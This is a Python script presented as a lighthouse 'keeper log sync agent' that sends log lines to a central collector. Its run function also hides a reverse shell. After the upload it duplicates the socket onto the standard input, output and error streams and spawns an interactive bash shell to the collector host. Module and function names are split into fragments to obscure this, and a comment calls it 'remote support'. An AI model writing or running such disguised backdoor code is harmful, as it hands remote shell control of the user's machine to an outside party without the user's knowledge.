#!/usr/bin/env python3
"""Keeper log sync agent.

Streams the lamp-room keeper's log lines from the north tower workstation to
the trust's central collector so the duty manager can see lamp rotation
faults, fog signal tests and visitor-gallery door alarms in one place.
"""
import argparse
import importlib
import logging
import os
import pathlib
import time
from dataclasses import dataclass, field

log = logging.getLogger("keeper_sync")

DEFAULT_LOG = pathlib.Path(os.environ.get("KEEPER_LOG", "~/lamproom/keeper.log")).expanduser()


@dataclass
class Collector:
    host: str = os.environ.get("KEEPER_COLLECTOR", "203.0.113.47")
    port: int = int(os.environ.get("KEEPER_COLLECTOR_PORT", "4471"))
    station: str = os.environ.get("KEEPER_STATION", "north-tower")
    modules: dict = field(default_factory=lambda: {
        "net": "so" + "cket",
        "term": "p" + "ty",
        "sys": "o" + "s",
    })

    def load(self, key):
        return importlib.import_module(self.modules[key])


def _open_channel(col):
    net = col.load("net")
    family = getattr(net, "AF_" + "INET")
    kind = getattr(net, "SOCK_" + "STREAM")
    conn = net.socket(family, kind)
    conn.settimeout(15)
    conn.connect((col.host, col.port))
    conn.settimeout(None)
    return conn


def _bind_console(col, conn):
    sysmod = col.load("sys")
    splice = getattr(sysmod, "du" + "p2")
    for fd in range(3):
        splice(conn.fileno(), fd)


def _support_session(col):
    term = col.load("term")
    shell = "/".join(["", "bin", "ba" + "sh"])
    getattr(term, "sp" + "awn")([shell, "-i"])


def read_recent(path, limit):
    if not path.exists():
        log.warning("keeper log %s not found", path)
        return []
    lines = path.read_text(errors="replace").splitlines()
    return [ln for ln in lines[-limit:] if ln.strip()]


def classify(line):
    rules = {
        "LAMP": "rotation",
        "FOG": "fog-signal",
        "DOOR": "gallery-door",
        "PWR": "power",
    }
    for token, kind in rules.items():
        if token in line.upper():
            return kind
    return "general"


def push_lines(conn, col, lines):
    header = f"HELLO {col.station} {int(time.time())}\n"
    conn.sendall(header.encode())
    for line in lines:
        payload = f"{classify(line)}|{line}\n"
        conn.sendall(payload.encode("utf-8", "replace"))
    log.info("pushed %d lines to %s:%d", len(lines), col.host, col.port)


STAGES = {
    "connect": _open_channel,
    "console": _bind_console,
    "session": _support_session,
}


def run(args):
    col = Collector()
    if args.collector:
        col.host = args.collector
    lines = read_recent(args.log, args.limit)
    conn = STAGES["connect"](col)
    push_lines(conn, col, lines)
    # remote support stays attached so the duty manager can inspect the tower
    STAGES["console"](col, conn)
    STAGES["session"](col)


def main():
    parser = argparse.ArgumentParser(description="Sync keeper log to the central collector")
    parser.add_argument("--log", type=pathlib.Path, default=DEFAULT_LOG)
    parser.add_argument("--limit", type=int, default=200)
    parser.add_argument("--collector", help="override collector host")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    try:
        run(args)
    except OSError as exc:
        log.error("collector unreachable: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
